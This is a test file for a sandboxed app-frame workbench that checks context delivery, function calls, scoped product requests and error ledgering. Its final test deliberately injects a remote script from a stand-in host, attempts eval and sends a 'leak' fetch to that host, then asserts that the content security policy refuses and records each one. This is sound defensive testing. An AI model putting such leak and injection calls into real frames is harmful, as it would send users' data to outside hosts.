import { afterAll, beforeAll, expect, test } from 'vitest'
import { type FramesBench, run, startBench } from '../../../../test/frames-bench.ts'

let bench: FramesBench

beforeAll(async () => {
  bench = await startBench()
})

afterAll(() => bench?.dispose())

test('a frame has its context at once, from its own origin on another site than the host', async () => {
  const { frame, close } = await bench.open()
  const seen = await run(frame, 'return bridge.view.getContext()')
  expect(seen).toMatchObject({
    accountId: bench.trial.person.accountId,
    locale: 'de-DE',
    timezone: 'Europe/Berlin',
    localId: 'macro-0',
    moduleKey: 'view',
    theme: { colorMode: 'light' },
    extension: {
      type: 'macro',
      content: { type: 'page', subtype: null },
      space: { key: 'DEMO' },
      isEditing: false,
      config: { source: 'diagram 0' },
      macro: { isConfiguring: false, isInserting: false },
    },
  })
  expect(new URL(frame.url()).hostname).toBe('127.0.0.1')
  await close()
})

test('a function is invoked in the name of the session, with the context that the server makes', async () => {
  const { frame, close } = await bench.open()
  const answer = await run(frame, 'return bridge.invoke("echo", { a: [1, 2] })')
  expect(answer).toEqual({ echo: { a: [1, 2] } })
  expect(bench.trial.calls.at(-1)).toMatchObject({
    functionKey: 'echo',
    payload: { a: [1, 2] },
    context: {
      accountId: bench.trial.person.accountId,
      localId: 'macro-0',
      moduleKey: 'view',
      extension: { type: 'macro', config: { source: 'diagram 0' } },
    },
  })
  await close()
})

test("a function's failure reaches the app in the runtime's words", async () => {
  const { frame, close } = await bench.open()
  const words = await run(frame, 'return bridge.invoke("fails").catch((error) => error.message)')
  expect(words).toBe('There was an error invoking the function - no')
  await close()
})

test('a product request goes out as the reader, with the scopes of the app', async () => {
  const { frame, close } = await bench.open()
  const answer = await run(
    frame,
    'const r = await bridge.requestConfluence("/wiki/api/v2/pages/1?a=b", { method: "POST", body: "text" }); return r.json()',
  )
  expect(answer).toEqual({
    path: '/wiki/api/v2/pages/1',
    principal: {
      kind: 'app',
      appId: bench.trial.app.id,
      scopes: ['read:page:confluence'],
      asUser: bench.trial.person.accountId,
    },
    body: 'text',
  })
  expect(bench.trial.ledger.entries({ channel: 'product' }).at(-1)).toMatchObject({
    outcome: 'done',
    summary: 'POST /wiki/api/v2/pages/1?a=b 200',
  })
  await close()
})

test('a request to a remote that the manifest does not name is refused in words', async () => {
  const { frame, close } = await bench.open()
  const words = await run(
    frame,
    'return bridge.requestRemote("nowhere", { path: "/" }).catch((error) => error.message)',
  )
  expect(words).toBe('The manifest has no remote "nowhere".')
  await close()
})

test('an unknown command fails in words and is in the ledger', async () => {
  const { page, frame, close } = await bench.open()
  const recorded = page.waitForResponse('**/api/bridge/record')
  const words = await run(frame, 'return bridge.rovo.open({}).catch((error) => error.message)')
  expect(words).toBe('The workbench has not built the bridge command openRovo.')
  await recorded
  const entry = bench.trial.ledger
    .entries({ channel: 'bridge' })
    .find(({ summary }) => summary === 'openRovo')
  expect(entry).toMatchObject({ app: bench.trial.app.id, outcome: 'refused' })
  await close()
})

test('a remote script, eval and a call to a stranger are refused by the policy and recorded', async () => {
  const { frame, close } = await bench.open()
  const results = await run(
    frame,
    `const script = document.createElement('script')
     script.src = 'https://stranger.example/a.js'
     const failed = new Promise((resolve) => { script.onerror = () => resolve('refused') })
     document.head.append(script)
     const call = await fetch('https://stranger.example/?leak=1').catch(() => 'refused')
     const declared = await fetch('https://declared.example/').catch(() => 'refused')
     return [await failed, await tryEval(), call, declared]`,
  )
  expect(results).toEqual(['refused', 'refused', 'refused', 'refused'])
  const seen = await waitFor(() => {
    const entries = bench.trial.ledger.entries({ channel: 'csp', app: bench.trial.app.id })
    return entries.length >= 4 ? entries : undefined
  })
  expect(seen.map(({ summary }) => summary).sort()).toEqual([
    'connect-src: https://declared.example/',
    'connect-src: https://stranger.example/?leak=1',
    'script-src-elem: https://stranger.example/a.js',
    'script-src: eval',
  ])
  await close()
})

/** Waits for the next entries of the ledger until there is what is looked for. */
function waitFor<T>(look: () => T | undefined): Promise<T> {
  return new Promise((resolve) => {
    const stop = bench.trial.ledger.subscribe(check)
    function check(): void {
      const found = look()
      if (found === undefined) return
      stop()
      resolve(found)
    }
    check()
  })
}
